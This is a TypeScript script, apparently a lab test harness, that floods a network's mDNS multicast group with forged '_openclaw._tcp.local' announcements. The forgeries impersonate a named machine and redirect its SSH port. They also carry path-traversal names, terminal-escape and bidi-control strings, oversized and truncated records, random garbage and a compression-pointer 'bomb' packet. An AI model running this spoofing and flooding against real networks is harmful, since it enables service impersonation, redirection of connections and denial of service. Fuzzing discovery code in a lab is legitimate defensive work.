// Run inside a lab machine: floods its network with mDNS lies and garbage.
// Arguments: number of packets, packets a second, id and address of the machine to impersonate, own addresses.
import { createSocket, type Socket } from 'node:dgram'
import * as dnsPacket from 'dns-packet'

const [count = '10000', perSecond = '3000', victim = 'm2', victimIp = '10.77.1.2', ...sources] =
  process.argv.slice(2)
const GROUP = '224.0.0.251'
const TYPE = '_openclaw._tcp.local'
const ESCAPES = '\u001b[2J\u001b]0;owned\u0007\u202eevil\u0000\r\n'

/** One whole announcement; everything a lie can be about can be replaced. */
function claim(
  name: string,
  ip: string,
  txt: readonly (string | Buffer)[],
  more: { port?: number; host?: string; ttl?: number } = {},
): Buffer {
  const { port = 22, host = `${name}-host.local`, ttl = 4500 } = more
  const instance = `${name}.${TYPE}`
  return dnsPacket.encode({
    type: 'response',
    flags: 1 << 10,
    answers: [
      { type: 'PTR', name: TYPE, ttl, data: instance },
      { type: 'SRV', name: instance, ttl, flush: true, data: { port, target: host } },
      { type: 'TXT', name: instance, ttl, flush: true, data: [...txt] },
      { type: 'A', name: host, ttl, flush: true, data: ip },
    ],
  })
}

const random = (size: number) =>
  Buffer.from(Array.from({ length: size }, () => Math.floor(Math.random() * 256)))
const facts = (id: string, lead = '0') => [
  `gateway=${id}`,
  `name=${id}`,
  `lead=${lead}`,
  'version=6.6.6',
  'user=evil',
  'sshUser=evil',
]

/** A header that promises 65,535 records of each kind, then pointers to pointers. */
function bomb(): Buffer {
  const packet = Buffer.alloc(8900, 0xc0)
  packet.writeUInt16BE(0x8400, 2)
  for (const at of [4, 6, 8, 10]) packet.writeUInt16BE(0xffff, at)
  for (let at = 12; at + 1 < packet.length; at += 2)
    packet.writeUInt16BE(0xc000 | Math.min(0x3fff, at - 2), at)
  return packet
}

const LIES: readonly ((at: number, own: string) => Buffer)[] = [
  (_, own) => claim(victim, own, facts(victim)),
  (_, own) => claim(victim, own, facts(victim.toUpperCase(), '1'), { port: 2222 }),
  () => claim('relay', victimIp, facts(victim, '1')),
  () => claim(victim, victimIp, facts(victim), { ttl: 0 }),
  (at, own) => claim(`evil${at}`, own, facts(`evil${at}`, '1')),
  (at, own) => claim(`path${at}`, own, facts('../../evil')),
  (at, own) => claim(`path${at}`, own, facts('../candidates/../peers/m2')),
  (at, own) =>
    claim(`esc${at}${ESCAPES}`, own, [`gateway=esc${at}`, `name=${ESCAPES}`, `version=${ESCAPES}`]),
  (at, own) =>
    claim(`long${at}`, own, [`gateway=long${at}`, Buffer.alloc(300, 'x'), `name=${'n'.repeat(240)}`]),
  (_, own) => claim('m1', own, facts('m1', '1'), { port: 666, host: 'claw-m1.local' }),
  (at, own) => claim(`cut${at}`, own, facts(`cut${at}`)).subarray(0, 12 + (at % 200)),
  at => random(at % 600),
  at => Buffer.concat([Buffer.from([0, 0, 0x84, 0, 0, 1, 0, 9, 0, 9, 0, 9]), random(at % 300)]),
  bomb,
]

const open = (address: string) =>
  new Promise<{ socket: Socket; address: string }>(resolve => {
    const socket = createSocket({ type: 'udp4', reuseAddr: true })
    // From port 5353, or nobody would take an answer seriously; from each address in turn.
    socket.bind(5353, address, () => {
      socket.setMulticastInterface(address)
      socket.setMulticastTTL(255)
      resolve({ socket, address })
    })
  })

const sockets = await Promise.all(sources.map(open))
const start = performance.now()
for (let at = 0; at < Number(count); at += 1) {
  const from = sockets[at % sockets.length]
  const lie = LIES[Math.floor(Math.random() * LIES.length)]
  if (from === undefined || lie === undefined) throw new Error('Name at least one source address')
  from.socket.send(lie(at, from.address), 5353, GROUP, () => {})
  const earlyMs = (at / Number(perSecond)) * 1000 - (performance.now() - start)
  if (earlyMs > 1) await new Promise(resolve => setTimeout(resolve, earlyMs))
}
await new Promise(resolve => setTimeout(resolve, 200))
for (const { socket } of sockets) socket.close()
console.log(`sent ${count} in ${Math.round(performance.now() - start)} ms`)
